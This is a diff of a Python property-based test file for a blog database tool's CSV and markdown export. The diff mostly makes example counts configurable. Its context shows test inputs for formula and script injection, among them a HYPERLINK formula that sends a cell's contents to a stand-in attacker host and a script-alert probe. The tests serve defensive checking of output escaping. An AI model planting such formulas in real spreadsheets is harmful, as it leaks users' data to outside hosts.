@@ -22,7 +22,7 @@ from blogdb.cli.formats import write
 from blogdb.cli.options import RowOptions
 
 from ..conftest import Run
-from ..rounds import combined
+from ..rounds import combined, rounds
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example?"&A1,"click")',
@@ -93,7 +93,7 @@ def cells(text: str) -> Iterator[list[str]]:
             yield row
 
 
-@settings(max_examples=300, deadline=None, database=None)
+@settings(max_examples=rounds(100, 300), deadline=None, database=None)
 @given(st.lists(st.tuples(texts, texts), max_size=4), st.tuples(texts, texts))
 @example([("<script>alert(1)</script>", "a|b")], ("`a|b`", "[x](y)"))
 def test_markdown_shows_what_the_text_is(
@@ -136,7 +136,7 @@ def test_csv_keeps_what_is_harmless(
     assert capsys.readouterr().err == ""
 
 
-@settings(max_examples=300, deadline=None, database=None)
+@settings(max_examples=rounds(100, 300), deadline=None, database=None)
 @given(st.lists(st.tuples(st.text(max_size=9), st.text(max_size=9)), max_size=4))
 def test_no_cell_of_csv_runs(rows: list[tuple[str, str]]) -> None:
     """Nothing but numbers begins as a formula does; no text gets more than a mark."""
